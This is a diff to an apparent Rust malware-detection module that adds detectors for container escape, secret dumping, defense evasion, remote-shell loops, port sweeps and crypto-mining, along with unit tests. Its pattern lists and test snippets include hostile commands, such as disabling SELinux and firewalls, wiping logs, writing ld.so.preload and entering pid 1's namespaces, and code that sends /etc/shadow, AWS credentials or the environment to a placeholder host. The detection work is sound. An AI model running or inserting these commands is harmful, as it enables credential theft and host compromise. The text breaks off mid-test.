@@ -137,15 +137,66 @@ named_features! {
     Fileless = "fileless_exec", "memfd_create or /proc/self/fd: a program run from memory";
     PersistWrite = "persistence_write", "a persistence location opened for writing";
     EscapedNames = "escaped_names", "names or code spelled entirely in \\x or octal escapes";
+    EscapeRecon = "escape_recon", "container escape attempted or surveyed: nsenter into pid 1, a host disk or cgroup mounted, or several kinds of probe (host root, runtime socket, capabilities, release_agent)";
+    SecretDump = "secret_dump", "secrets dumped: a credential file printed or sent in one expression, the environment sent out or filtered by secret names, Kubernetes secrets listed";
+    DefenseEvasion = "defense_evasion", "defenses taken down: security or logging turned off (setenforce 0, iptables -F, history or logs wiped), /etc/ld.so.preload written, competing miners killed";
+    SocketExec = "socket_exec", "socket read, then code or a shell command run nearby";
+    ReceivedCommand = "received_command", "what a socket read returns is run as code or as a command (remote shell loop)";
+    RunHiddenTmp = "run_hidden_tmp", "a hidden file in /tmp, /var/tmp or /dev/shm run or made executable";
+    ScanSweep = "scan_sweep", "many hosts or ports tried with connects (a list of service ports, an address range)";
+}
+
+/// Flags the combinations use that are not features of their own (they are common in
+/// ordinary code); their lines are kept after the named features' in `Acc::at`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum P {
+    /// `os.kill`/`os.killpg` called.
+    OsKill,
+    /// A shell runs a command given as a value: `create_subprocess_shell(x)`.
+    ShellCmd,
+    /// The string `"job_id"` (a mining job).
+    JobId,
+    /// The string `"nonce"`.
+    Nonce,
+    /// The strings `"submit"`/`"login"`/`"getjob"` (pool methods).
+    PoolMethod,
+    /// Scan targets: a list of service ports (`(22, 80, 443, 6379)`), an address with its last
+    /// part left to fill in (`"10.42.0.%d"`).
+    Targets,
+}
+
+/// How many [`P`] flags there are.
+const N_PRIVATE: usize = 6;
+
+/// The index of a flag in `Acc::at`.
+trait Ix: Copy {
+    fn ix(self) -> usize;
+}
+impl Ix for F {
+    fn ix(self) -> usize {
+        self as usize
+    }
+}
+impl Ix for usize {
+    fn ix(self) -> usize {
+        self
+    }
+}
+impl Ix for P {
+    fn ix(self) -> usize {
+        N_NAMED + self as usize
+    }
 }
 
 /// Behaviours that decide a verdict on their own (see `Model::probability`): a reverse
-/// shell, code hidden in an encoded blob, an encoded literal decoded and executed in one
+/// shell, a command or code read from a socket and run (a remote shell loop), code hidden in
+/// an encoded blob, an encoded literal decoded and executed in one
 /// expression, downloaded or received code executed, browser or Discord credential decryption.
 /// (Mining indicators are not among them: coin names turn up in ordinary code.) None of them
 /// shows in any of the ~19,000 benign files (`PYML_FEATURE_STATS=1 scripts/train-pyml.sh`).
 pub const CERTAIN: &[F] = &[
     F::RevShell,
+    F::ReceivedCommand,
     F::Hidden,
     F::HiddenExec,
     F::ExecLiteral,
@@ -209,18 +260,24 @@ struct Acc {
     written: Vec<String>,
     /// Names and paths passed to calls that run or make executable (`Popen([X])`, `chmod(X)`).
     ran: Vec<String>,
+    /// Hidden temporary paths, and names assigned one (`OUT = "/var/tmp/.d"`).
+    hidden_tmp: Vec<String>,
+    /// Kinds of container-escape probe seen (bits of [`escape_kind`]).
+    escape_kinds: u8,
+    /// Names assigned what a socket read returns (`cmd = s.recv(1024)`).
+    received: Vec<String>,
 }
 
 impl Acc {
-    fn set(&mut self, f: F) {
-        let at = &mut self.at[f as usize];
+    fn set(&mut self, f: impl Ix) {
+        let at = &mut self.at[f.ix()];
         if at.last() != Some(&self.line) {
             at.push(self.line);
         }
     }
 
     /// True when some window of [`WINDOW`] lines holds a flag from every group.
-    fn near(&self, groups: &[&[F]]) -> bool {
+    fn near<T: Ix>(&self, groups: &[&[T]]) -> bool {
         // A group with no flag set anywhere cannot be in any window.
         if groups
             .iter()
@@ -231,7 +288,7 @@ impl Acc {
         let mut events: Vec<(u32, usize)> = Vec::new();
         for (g, flags) in groups.iter().enumerate() {
             for f in *flags {
-                events.extend(self.at[*f as usize].iter().map(|l| (*l, g)));
+                events.extend(self.at[f.ix()].iter().map(|l| (*l, g)));
             }
         }
         events.sort_unstable();
@@ -258,8 +315,8 @@ impl Acc {
         }
         false
     }
-    fn has(&self, f: F) -> bool {
-        !self.at[f as usize].is_empty()
+    fn has(&self, f: impl Ix) -> bool {
+        !self.at[f.ix()].is_empty()
     }
 }
 
@@ -271,7 +328,7 @@ pub fn extract(src: &str) -> Features {
 /// Extracts the features of `src`, also listing its n-grams when `grams` is given.
 pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
     let mut acc = Acc {
-        at: vec![Vec::new(); N_NAMED],
+        at: vec![Vec::new(); N_NAMED + N_PRIVATE],
         ..Acc::default()
     };
     let mut arena = Arena::new();
@@ -279,7 +336,7 @@ pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
     acc.rot13 = names_rot13(src.as_bytes());
     scan(src, &tokens, 0, &mut acc);
     let mut named = vec![0f32; N_NAMED];
-    for (i, seen) in acc.at.iter().enumerate() {
+    for (i, seen) in acc.at.iter().take(N_NAMED).enumerate() {
         if !seen.is_empty() {
             named[i] = 1.0;
         }
@@ -321,6 +378,33 @@ pub fn extract_with(src: &str, grams: Option<&mut Vec<Gram>>) -> Features {
     );
     named[F::Sensitive2 as usize] =
         combo(a.near(&[&[F::EnvDump], &[F::Fetch, F::Post, F::Connect]]));
+    named[F::ScanSweep as usize] = combo(a.near(&[&[F::Connect.ix()], &[P::Targets.ix()]]));
+    named[F::EscapeRecon as usize] =
+        combo(a.escape_kinds.count_ones() >= 2 || a.escape_kinds & ESCAPE_ACTION != 0);
+    // Competing miners killed.
+    if a.near(&[&[F::KillProc.ix(), P::OsKill.ix()], &[F::Stratum.ix()]]) {
+        named[F::DefenseEvasion as usize] = 1.0;
+    }
+    // A mining pool's protocol spoken over a socket.
+    if a.near(&[
+        &[F::Socket.ix(), F::Connect.ix()],
+        &[P::JobId.ix()],
+        &[P::Nonce.ix()],
+        &[P::PoolMethod.ix()],
+    ]) {
+        named[F::Stratum as usize] = 1.0;
+    }
+    named[F::SocketExec as usize] = combo(a.near(&[
+        &[F::Connect.ix()],
+        &[F::Recv.ix()],
+        &[
+            F::Exec.ix(),
+            F::OsSystem.ix(),
+            F::ShellTrue.ix(),
+            P::ShellCmd.ix(),
+        ],
+    ]));
+    named[F::RunHiddenTmp as usize] = combo(a.ran.iter().any(|r| a.hidden_tmp.contains(r)));
     let len = src.len().max(1) as f32;
     named[F::Chr as usize] = scaled(a.chr, 64.0);
     named[F::Lambda as usize] = scaled(a.lambdas.saturating_sub(2), 32.0);
@@ -498,6 +582,27 @@ fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
                 name_flags(full, last, call, tokens, i, depth, acc);
                 if call {
                     track_files(last, tokens, i, acc);
+                    // `requests.post(url, json=dict(os.environ))`, `s.sendall(str(os.environ))`.
+                    if matches!(
+                        last,
+                        "urlopen" | "Request" | "post" | "put" | "request" | "send" | "sendall"
+                    ) && sends_environ(tokens, i)
+                    {
+                        acc.set(F::SecretDump);
+                    }
+                }
+                if call {
+                    received_command(full, last, tokens, i, acc);
+                }
+                // `{k: v for k, v in os.environ.items() if "TOKEN" in k}`.
+                if is_whole_environ(full)
+                    && tokens
+                        .get(i.wrapping_sub(1))
+                        .is_some_and(|p| p.text == "in")
+                    && !next_is_subscript(tokens, i)
+                    && secret_name_follows(tokens, i)
+                {
+                    acc.set(F::SecretDump);
                 }
                 // `getattr(os, "sys" + "tem")(…)` is a call of `os.system`.
                 if last == "getattr" && call {
@@ -559,19 +664,97 @@ fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
                     acc.set(F::ExecLiteral);
                 }
                 let callee = first_argument_of(tokens, i);
-                // `open("/etc/shadow")`, `Path("~/.aws/credentials").read_text()`.
-                if matches!(callee, Some("open" | "Path")) && is_secret_file(t.text) {
+                // `open("/etc/shadow")`, `Path("~/.aws/credentials").read_text()`, and a path
+                // joined to a directory: `open(root + "/etc/kubernetes/admin.conf")`.
+                let joined = opened_joined(tokens, i);
+                if (matches!(callee, Some("open" | "Path")) || joined.is_some())
+                    && is_secret_file(t.text)
+                {
                     acc.set(F::SecretRead);
+                    // `print(open("/etc/shadow").read())`, `post(url, data=open(…))`.
+                    let at = if callee.is_some() {
+                        i - 2
+                    } else {
+                        joined.unwrap_or(i)
+                    };
+                    if contents_sent(tokens, at) {
+                        acc.set(F::SecretDump);
+                    }
                 }
                 // `open("/etc/ld.so.preload", "w")`, `open("~/.bashrc", "a")`.
-                if callee == Some("open")
-                    && opened_for_writing(tokens, i)
-                    && has_feature(t.text, F::Persist)
+                if callee == Some("open") && opened_for_writing(tokens, i) {
+                    if has_feature(t.text, F::Persist) {
+                        acc.set(F::PersistWrite);
+                    }
+                    if t.text.contains("ld.so.preload") {
+                        acc.set(F::DefenseEvasion);
+                    }
+                }
+                // The Kubernetes secrets of a namespace or of the cluster listed (one named
+                // secret, `…/secrets/NAME`, is not).
+                if t.text.ends_with("/secrets") && t.text.contains("/namespaces/") {
+                    acc.set(F::SecretDump);
+                }
+                // An HTTP request written by hand (`"GET %s HTTP/1.0\r\nHost: …"`) downloads.
+                if t.text.starts_with("GET ") && t.text.contains(" HTTP/1.") {
+                    acc.set(F::Fetch);
+                }
+                // `NamedTemporaryFile(prefix=".", dir="/dev/shm")`: a hidden temporary file.
+                if t.text.starts_with('.')
+                    && i >= 2
+                    && tokens[i - 1].text == "="
+                    && tokens[i - 2].text == "prefix"
+                    && call_args_around(tokens, i).any(|a| {
+                        a.kind == Kind::Str
+                            && matches!(
+                                a.text.trim_end_matches('/'),
+                                "/tmp" | "/var/tmp" | "/dev/shm"
+                            )
+                    })
                 {
-                    acc.set(F::PersistWrite);
+                    acc.set(F::HiddenTmp);
+                }
+                // `["mount", "/dev/" + d, mnt]`.
+                if t.text == "mount"
+                    && tokens.get(i + 1).is_some_and(|c| c.text == ",")
+                    && tokens
+                        .get(i + 2)
+                        .is_some_and(|d| d.kind == Kind::Str && d.text.starts_with("/dev/"))
+                {
+                    acc.set(F::EscapeProbe);
+                    acc.escape_kinds |= ESCAPE_MOUNT;
+                }
+                // `["nsenter", "-t", "1", …]`: into the host's namespaces.
+                if t.text == "nsenter"
+                    && tokens
+                        .get(i + 2)
+                        .is_some_and(|f| matches!(f.text, "-t" | "--target"))
+                    && tokens
+                        .get(i + 4)
+                        .is_some_and(|p| p.kind == Kind::Str && p.text == "1")
+                {
+                    acc.escape_kinds |= ESCAPE_NSENTER_PID1;
+                }
+                if is_ip_sweep(t.text) {
+                    acc.set(P::Targets);
+                }
+                match t.text {
+                    "job_id" | "jobid" => acc.set(P::JobId),
+                    "nonce" => acc.set(P::Nonce),
+                    "submit" | "login" | "getjob" | "mining.submit" | "mining.authorize" => {
+                        acc.set(P::PoolMethod)
+                    }
+                    _ => {}
                 }
                 if t.text.len() > 6 && is_hidden_tmp(t.text) {
                     acc.set(F::HiddenTmp);
+                    // The path, and the name it is assigned to (`OUT = "/var/tmp/.d"`).
+                    if acc.hidden_tmp.len() < 16 {
+                        acc.hidden_tmp.push(t.text.to_owned());
+                        if i >= 2 && tokens[i - 1].text == "=" && tokens[i - 2].kind == Kind::Name {
+                            acc.hidden_tmp.push(tokens[i - 2].text.to_owned());
+                        }
+                    }
                 }
                 if acc.site_packages && t.text.ends_with(".pth") {
                     acc.set(F::Persist);
@@ -588,6 +771,9 @@ fn scan(src: &str, tokens: &[Token], depth: u8, acc: &mut Acc) {
             Kind::Op => {
                 if t.text == "[" && reversed_at(tokens, i) {
                     acc.set(F::Reverse);
+                }
+                if (t.text == "[" || t.text == "(") && is_port_list(tokens, i) {
+                    acc.set(P::Targets);
                 }
                 // A list of character codes: `[112, 114, 105, …]`, `bytes((105, 109, …))`.
                 if (t.text == "[" || t.text == "(") && depth < MAX_DEPTH {
@@ -668,7 +854,13 @@ fn name_flags(
         {
             acc.set(F::Recv)
         }
-        "create_subprocess_shell" | "create_subprocess_exec" => acc.set(F::Subprocess),
+        "create_subprocess_shell" | "create_subprocess_exec" => {
+            acc.set(F::Subprocess);
+            if last == "create_subprocess_shell" {
+                acc.set(P::ShellCmd);
+            }
+        }
+        "kill" | "killpg" if call && full.starts_with("os.") => acc.set(P::OsKill),
         "shell"
             if tokens.get(i + 1).is_some_and(|n| n.text == "=")
                 && tokens.get(i + 2).is_some_and(|n| n.text == "True") =>
@@ -931,6 +1123,254 @@ fn track_files(last: &str, tokens: &[Token], i: usize, acc: &mut Acc) {
 fn first_argument_of<'a>(tokens: &[Token<'a>], i: usize) -> Option<&'a str> {
     let f = tokens.get(i.checked_sub(2)?)?;
     (tokens[i - 1].text == "(" && f.kind == Kind::Name).then(|| last_segment(f.text))
+}
+
+/// Tracks what socket reads return (`cmd = s.recv(1024)`, `line = await reader.readline()`)
+/// and flags a call at `tokens[i]` that runs it as code or as a command (`os.popen(cmd)`,
+/// `create_subprocess_shell(line.decode())`, `exec(data)`).
+fn received_command(full: &str, last: &str, tokens: &[Token], i: usize, acc: &mut Acc) {
+    /// At most this many names are remembered.
+    const MAX: usize = 16;
+    match last {
+        "recv" | "recvfrom" | "readline" if last != "readline" || full.starts_with("reader") => {
+            let mut k = i.wrapping_sub(1);
+            if tokens.get(k).is_some_and(|t| t.text == "await") {
+                k = k.wrapping_sub(1);
+            }
+            if tokens.get(k).is_some_and(|t| t.text == "=") {
+                if let Some(n) = tokens
+                    .get(k.wrapping_sub(1))
+                    .filter(|n| n.kind == Kind::Name)
+                {
+                    if acc.received.len() < MAX && !acc.received.iter().any(|r| r == n.text) {
+                        acc.received.push(n.text.to_owned());
+                    }
+                }
+            }
+        }
+        "exec"
+        | "eval"
+        | "system"
+        | "popen"
+        | "getoutput"
+        | "getstatusoutput"
+        | "Popen"
+        | "check_output"
+        | "check_call"
+        | "call"
+        | "run"
+        | "create_subprocess_shell"
+        | "create_subprocess_exec"
+        | "spawn"
+            if match last {
+                "exec" | "eval" => is_builtin_exec(full),
+                "system" | "popen" | "getoutput" | "getstatusoutput" => {
+                    full.starts_with("os.") || full.starts_with("subprocess.")
+                }
+                "call" | "run" => full.starts_with("subprocess.") || full.starts_with("sp."),
+                "spawn" => full.starts_with("pty."),
+                _ => true,
+            } =>
+        {
+            let Some(arg) = tokens.get(i + 2).filter(|t| t.kind == Kind::Name) else {
+                return;
+            };
+            // `line.decode`, `cmd.split`: the name before the method; or the read itself,
+            // `run(s.recv(4096).decode(), shell=True)`.
+            let base = arg.text.split('.').next().unwrap_or(arg.text);
+            let read_here = matches!(last_segment(arg.text), "recv" | "recvfrom")
+                && tokens.get(i + 3).is_some_and(|t| t.text == "(");
+            if read_here || acc.received.iter().any(|r| r == base) {
+                acc.set(F::ReceivedCommand);
+            }
+        }
+        _ => {}
+    }
+}
+
+/// For a string at `tokens[i]` joined to a name as the first argument of `open`/`Path`
+/// (`open(root + "/etc/shadow")`), the index of the `open`.
+fn opened_joined(tokens: &[Token], i: usize) -> Option<usize> {
+    let at = i.checked_sub(4)?;
+    let f = &tokens[at];
+    (tokens[i - 1].text == "+"
+        && tokens[i - 2].kind == Kind::Name
+        && tokens[i - 3].text == "("
+        && f.kind == Kind::Name
+        && matches!(last_segment(f.text), "open" | "Path"))
+    .then_some(at)
+}
+
+/// Whether what the `open` at `tokens[at]` reads is printed or sent in the same expression:
+/// `print(open(…).read())`, `s.sendall(open(…, "rb").read())`, `post(url, data=open(…))`.
+fn contents_sent(tokens: &[Token], at: usize) -> bool {
+    let (Some(before), Some(outer)) = (
+        at.checked_sub(1).map(|k| &tokens[k]),
+        at.checked_sub(2).map(|k| &tokens[k]),
+    ) else {
+        return false;
+    };
+    outer.kind == Kind::Name
+        && match before.text {
+            "(" => matches!(
+                last_segment(outer.text),
+                "print"
+                    | "pprint"
+                    | "post"
+                    | "put"
+                    | "send"
+                    | "sendall"
+                    | "sendfile"
+                    | "urlopen"
+                    | "b64encode"
+                    | "hexlify"
+            ),
+            "=" => matches!(outer.text, "data" | "files" | "json" | "body"),
+            _ => false,
+        }
+}
+
+/// The whole environment: `os.environ` (not `os.environ.get`, nor a WSGI `environ`),
+/// `os.environ.items()` and the like.
+fn is_whole_environ(name: &str) -> bool {
+    matches!(
+        name,
+        "os.environ"
+            | "os.environ.items"
+            | "os.environ.copy"
+            | "os.environ.keys"
+            | "os.environ.values"
+    )
+}
+
+fn next_is_subscript(tokens: &[Token], i: usize) -> bool {
+    tokens
+        .get(i + 1)
+        .is_some_and(|n| n.kind == Kind::Op && n.text == "[")
+}
+
+/// Whether the call at `tokens[i]` is given the whole environment among its arguments.
+fn sends_environ(tokens: &[Token], i: usize) -> bool {
+    /// Arguments are looked at up to this many tokens.
+    const SPAN: usize = 64;
+    let mut depth = 0usize;
+    for k in i + 1..tokens.len().min(i + 1 + SPAN) {
+        let t = &tokens[k];
+        match t.kind {
+            Kind::Op => match t.text {
+                "(" | "[" | "{" => depth += 1,
+                ")" | "]" | "}" => {
+                    depth = depth.saturating_sub(1);
+                    if depth == 0 {
+                        return false;
+                    }
+                }
+                _ => {}
+            },
+            Kind::Name if is_whole_environ(t.text) && !next_is_subscript(tokens, k) => return true,
+            _ => {}
+        }
+    }
+    false
+}
+
+/// Whether a bare secret word (`"TOKEN"`, `"PASSWORD"`: a filter of any variable's name, not
+/// one variable such as `"AWS_SECRET_ACCESS_KEY"`) follows the environment iterated at
+/// `tokens[i]` within a few tokens.
+fn secret_name_follows(tokens: &[Token], i: usize) -> bool {
+    /// Tokens looked at after the environment.
+    const SPAN: usize = 48;
+    tokens.iter().skip(i + 1).take(SPAN).any(|t| {
+        t.kind == Kind::Str
+            && t.text.len() <= 11
+            && [
+                "token",
+                "secret",
+                "password",
+                "passwd",
+                "pass",
+                "key",
+                "api_key",
+                "apikey",
+                "credential",
+                "auth",
+                "private",
+            ]
+            .iter()
+            .any(|w| t.text.eq_ignore_ascii_case(w))
+    })
+}
+
+/// Three parts of an IPv4 address and a placeholder for the fourth: `"10.42.0.%d"`,
+/// `"10.0.0.{i}"` (an f-string's text).
+fn is_ip_sweep(s: &str) -> bool {
+    if s.len() > 24 || !(s.ends_with('d') || s.ends_with('s') || s.ends_with('}')) {
+        return false;
+    }
+    let Some(dot) = s.rfind('.') else {
+        return false;
+    };
+    let (head, tail) = (&s[..dot], &s[dot + 1..]);
+    let placeholder = tail == "%d"
+        || tail == "%s"
+        || (tail.starts_with('{') && tail.ends_with('}') && tail.len() > 2);
+    placeholder && {
+        let mut parts = 0;
+        head.split('.').all(|p| {
+            parts += 1;
+            !p.is_empty() && p.len() <= 3 && p.bytes().all(|c| c.is_ascii_digit())
+        }) && parts == 3
+    }
+}
+
+/// A literal list or tuple opening at `tokens[i]` of at least three port numbers, two of them
+/// well-known service ports: `(22, 80, 443, 2375, 6379)`.
+fn is_port_list(tokens: &[Token], i: usize) -> bool {
+    /// Ports that services in and around a cluster listen on.
+    const SERVICES: &[u32] = &[
+        21, 22, 23, 25, 53, 80, 443, 445, 1433, 2375, 2376, 2379, 3000, 3306, 3389, 5000, 5432,
+        5601, 5672, 5900, 6379, 6443, 8000, 8080, 8443, 8888, 9000, 9090, 9200, 10250, 10255,
+        11211, 27017,
+    ];
+    // Cheap rejection first: the list must start with a number.
+    if !tokens.get(i + 1).is_some_and(|t| t.kind == Kind::Number) {
+        return false;
+    }
+    let close = if tokens[i].text == "[" { "]" } else { ")" };
+    let (mut ports, mut services) = (0, 0);
+    let mut j = i + 1;
+    while let Some(t) = tokens.get(j).filter(|_| j < i + 64) {
+        let Some(v) = (t.kind == Kind::Number)
+            .then(|| parse_int(t.text))
+            .flatten()
+        else {
+            return false;
+        };
+        if v == 0 || v > 65535 {
+            return false;
+        }
+        ports += 1;
+        services += usize::from(SERVICES.contains(&v));
+        match tokens.get(j + 1) {
+            Some(c) if c.text == "," => j += 2,
+            Some(c) if c.text == close => break,
+            _ => return false,
+        }
+        if tokens.get(j).is_some_and(|c| c.text == close) {
+            break;
+        }
+    }
+    ports >= 3 && services >= 2
+}
+
+/// The tokens a few places either side of `tokens[i]` (the other arguments of its call).
+fn call_args_around<'t, 'a>(
+    tokens: &'t [Token<'a>],
+    i: usize,
+) -> impl Iterator<Item = &'t Token<'a>> {
+    /// Tokens looked at either side.
+    const SPAN: usize = 16;
+    tokens[i.saturating_sub(SPAN)..tokens.len().min(i + SPAN + 1)].iter()
 }
 
 /// Whether the `open` argument at `tokens[i]` is followed by a positional write or append
@@ -1315,9 +1755,12 @@ fn char_codes(tokens: &[Token], i: usize) -> Option<String> {
     (text.len() >= MIN).then_some(text)
 }
 
-/// A path of a credential or secret file.
+/// A path of a credential or secret file (a service account's namespace name and CA
+/// certificate, beside its token, are not secret).
 fn is_secret_file(s: &str) -> bool {
-    s.ends_with("/.env") || s == ".env" || has_feature(s, F::Sensitive)
+    (s.ends_with("/.env") || s == ".env" || has_feature(s, F::Sensitive))
+        && !s.ends_with("/namespace")
+        && !s.ends_with("/ca.crt")
 }
 
 /// Whether one of `f`'s indicator patterns occurs in `s`.
@@ -1366,6 +1809,32 @@ fn is_weird_name(name: &str) -> bool {
 struct Patterns {
     ac: AhoCorasick,
     features: Vec<F>,
+    /// For container-escape probes, the kind of probe (an [`escape_kind`] bit).
+    kinds: Vec<u8>,
+}
+
+/// Kinds of container-escape probe, one bit each: the host's root or namespaces through pid
+/// 1, a container runtime's socket, a cgroup `release_agent`, `nsenter`, the kernel's
+/// `core_pattern`, the capability set, a host disk mounted.
+const ESCAPE_MOUNT: u8 = 1 << 6;
+/// `nsenter` into pid 1's namespaces.
+const ESCAPE_NSENTER_PID1: u8 = 1 << 7;
+/// Kinds that are escapes themselves, not only probes.
+const ESCAPE_ACTION: u8 = ESCAPE_MOUNT | ESCAPE_NSENTER_PID1;
+const ESCAPE_SOCKET: u8 = 1 << 1;
+
+fn escape_kind(pattern: &str) -> u8 {
+    match pattern {
+        "/proc/1/root" | "/proc/1/ns" => 1,
+        "docker.sock" | "containerd.sock" | "crio.sock" => ESCAPE_SOCKET,
+        "release_agent" | "notify_on_release" => 1 << 2,
+        "nsenter" => 1 << 3,
+        "core_pattern" => 1 << 4,
+        "capeff" => 1 << 5,
+        "mount /dev/" | "mount -t cgroup" => ESCAPE_MOUNT,
+        "nsenter -t 1 " | "nsenter --target 1 " | "nsenter -t1 " => ESCAPE_NSENTER_PID1,
+        _ => 0,
+    }
 }
 
 fn patterns() -> &'static Patterns {
@@ -1448,6 +1917,11 @@ fn patterns() -> &'static Patterns {
                     "supportxmr",
                     "2miners",
                     "ethermine",
+                    "kinsing",
+                    "kdevtmpfsi",
+                    "mining.subscribe",
+                    "mining.authorize",
+                    "mining.submit",
                 ],
             ),
             (
@@ -1574,6 +2048,49 @@ fn patterns() -> &'static Patterns {
                 ],
             ),
             (F::KillProc, &["pkill", "killall", "kill -9", "taskkill"]),
+            (F::SecretDump, &["/api/v1/secrets"]),
+            (
+                F::EscapeProbe,
+                &[
+                    "mount /dev/",
+                    "mount -t cgroup",
+                    "nsenter -t 1 ",
+                    "nsenter --target 1 ",
+                    "nsenter -t1 ",
+                ],
+            ),
+            (
+                F::DefenseEvasion,
+                &[
+                    "> /etc/ld.so.preload",
+                    ">/etc/ld.so.preload",
+                    "tee /etc/ld.so.preload",
+                    "tee -a /etc/ld.so.preload",
+                    "libprocesshider",
+                ],
+            ),
+            (
+                F::DefenseEvasion,
+                &[
+                    "setenforce 0",
+                    "iptables -f",
+                    "iptables --flush",
+                    "ufw disable",
+                    "history -c",
+                    "unset histfile",
+                    "histfile=/dev/null",
+                    "histsize=0",
+                    "rm -rf /var/log",
+                    "rm -f /var/log",
+                    "rm -rf ~/.bash_history",
+                    "> /var/log/",
+                    "auditctl -e 0",
+                    "auditctl -d",
+                    "stop auditd",
+                    "stop apparmor",
+                    "disable apparmor",
+                ],
+            ),
             (F::HexDecode, &["rot13", "rot_13", "rot-13"]),
             (
                 F::SecretNames,
@@ -1617,10 +2134,16 @@ fn patterns() -> &'static Patterns {
         ];
         let mut pats = Vec::new();
         let mut features = Vec::new();
+        let mut kinds = Vec::new();
         for (f, list) in table {
             for p in *list {
                 pats.push(*p);
                 features.push(*f);
+                kinds.push(if *f == F::EscapeProbe {
+                    escape_kind(p)
+                } else {
+                    0
+                });
             }
         }
         Patterns {
@@ -1630,6 +2153,7 @@ fn patterns() -> &'static Patterns {
                 .build(&pats)
                 .expect("the fixed indicator patterns build"),
             features,
+            kinds,
         }
     })
 }
@@ -1663,9 +2187,22 @@ fn string(s: &str, escapes: u32, depth: u8, executed: bool, acc: &mut Acc) {
         return;
     }
     let p = patterns();
+    let mut kinds = 0u8;
+    let mut run_dir = false;
     for m in p.ac.find_overlapping_iter(s) {
-        acc.set(p.features[m.pattern().as_usize()]);
+        let f = p.features[m.pattern().as_usize()];
+        kinds |= p.kinds[m.pattern().as_usize()];
+        // `/var/run/docker.sock` is a container runtime's socket, not a local service.
+        if f == F::InternalUrl && &s[m.start()..m.end()] == "/run/" {
+            run_dir = true;
+            continue;
+        }
+        acc.set(f);
     }
+    if run_dir && kinds & ESCAPE_SOCKET == 0 {
+        acc.set(F::InternalUrl);
+    }
+    acc.escape_kinds |= kinds;
     let lower_url = s.len() >= 7
         && has_scheme_separator(s)
         && (s.contains("http://")
@@ -2369,5 +2906,205 @@ mod tests {
             "import urllib.request as u\nu.urlopen('http://x/e', data=b'1')",
             F::Post
         ));
+    }
+
+    #[test]
+    fn secrets_dumped() {
+        assert!(on("print(open('/etc/shadow').read())", F::SecretDump));
+        assert!(on(
+            "print(open(root + '/etc/shadow').read())",
+            F::SecretRead
+        ));
+        assert!(on(
+            "import requests\nrequests.post(u, data=open('/root/.aws/credentials').read())",
+            F::SecretDump
+        ));
+        assert!(on(
+            "import socket\ns = socket.create_connection(a)\ns.sendfile(open('/app/.env', 'rb'))",
+            F::SecretDump
+        ));
+        // Read and kept, or a file that is not secret, is not dumped.
+        assert!(!on(
+            "t = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()",
+            F::SecretDump
+        ));
+        assert!(!on("print(open('/etc/hostname').read())", F::SecretDump));
+        assert!(!on(
+            "print(open('/var/run/secrets/kubernetes.io/serviceaccount/namespace').read())",
+            F::SecretDump
+        ));
+        // The whole environment sent out, or searched for secret names.
+        assert!(on("import os,json,urllib.request\nurllib.request.urlopen('http://x/e', data=json.dumps(dict(os.environ)).encode())", F::SecretDump));
+        assert!(on(
+            "import os\nprint({k: v for k, v in os.environ.items() if any(s in k for s in ('TOKEN', 'SECRET'))})",
+            F::SecretDump
+        ));
+        assert!(!on(
+            "import os, requests\nrequests.post(u, json={'host': os.environ.get('HOSTNAME')})",
+            F::SecretDump
+        ));
+        assert!(!on(
+            "def app(environ, start):\n    requests.post(u, data=environ)",
+            F::SecretDump
+        ));
+        assert!(!on(
+            "import os\nprint({k: v for k, v in os.environ.items() if k.startswith('APP_')})",
+            F::SecretDump
+        ));
+        // The cluster's secrets listed; one named secret read is not.
+        assert!(on("u = api + '/api/v1/secrets'", F::SecretDump));
+        assert!(on(
+            "u = '/api/v1/namespaces/%s/secrets' % ns",
+            F::SecretDump
+        ));
+        assert!(!on(
+            "u = '/api/v1/namespaces/%s/secrets/%s' % (ns, name)",
+            F::SecretDump
+        ));
+    }
+
+    #[test]
+    fn defenses_taken_down() {
+        assert!(on(
+            "import os\nos.system('iptables -F 2>/dev/null; setenforce 0')",
+            F::DefenseEvasion
+        ));
+        assert!(on(
+            "open('/etc/ld.so.preload', 'w').write('/usr/local/lib/x.so')",
+            F::DefenseEvasion
+        ));
+        assert!(on("import os,signal\nfor p in pids:\n    if b'xmrig' in open('/proc/%s/cmdline' % p, 'rb').read():\n        os.kill(int(p), signal.SIGKILL)", F::DefenseEvasion));
+        assert!(!on(
+            "open('/etc/ld.so.conf.d/app.conf', 'w').write('/opt/app/lib')",
+            F::DefenseEvasion
+        ));
+        assert!(!on(
+            "print(open('/etc/ld.so.preload').read())",
+            F::DefenseEvasion
+        ));
+        assert!(!on(
+            "import os,signal\nos.kill(int(open('/run/app.pid').read()), signal.SIGTERM)",
+            F::DefenseEvasion
+        ));
+        assert!(!on(
+            "import subprocess\nsubprocess.run(['iptables', '-L', '-n'])",
+            F::DefenseEvasion
+        ));
+    }
+
+    #[test]
+    fn container_escape_recon() {
+        let src = "import os; os.listdir('/proc/1/root'); print(os.path.exists('/var/run/docker.sock'), open('/proc/self/status').read().split('CapEff:')[1])";
+        assert!(on(src, F::EscapeRecon));
+        // The runtime's socket is not a local service's address.
+        assert!(!on(src, F::InternalUrl));
+        assert!(on(
+            "import subprocess\nsubprocess.run(['mount', '/dev/' + d, '/mnt/h'])",
+            F::EscapeProbe
+        ));
+        assert!(on("import os\nos.system('mount -t cgroup -o memory cgroup /tmp/cg && echo 1 > /tmp/cg/x/notify_on_release')", F::EscapeRecon));
+        assert!(on(
+            "import subprocess\nsubprocess.call(['nsenter', '-t', '1', '-m', '--', 'sh'])",
+            F::EscapeRecon
+        ));
+        assert!(!on(
+            "import subprocess\nsubprocess.call(['nsenter', '-t', str(pid), '-n', 'ip', 'a'])",
+            F::EscapeRecon
+        ));
+        // One probe alone, a tmpfs mount and a memory health check are not recon.
+        assert!(!on(
+            "import os\nprint(os.path.exists('/var/run/docker.sock'))",
+            F::EscapeRecon
+        ));
+        assert!(!on(
+            "import subprocess\nsubprocess.run(['mount', '-t', 'tmpfs', 'tmpfs', '/mnt/scratch'])",
+            F::EscapeProbe
+        ));
+        assert!(!on(
+            "print(open('/proc/self/status').read().split('VmRSS:')[1])",
+            F::EscapeProbe
+        ));
+    }
+
+    #[test]
+    fn mining_protocol_spoken() {
+        let src = "import socket, json\ns = socket.create_connection((h, 3333))\nsend({'method': 'login'})\nsend({'method': 'submit', 'params': {'job_id': j, 'nonce': n}})";
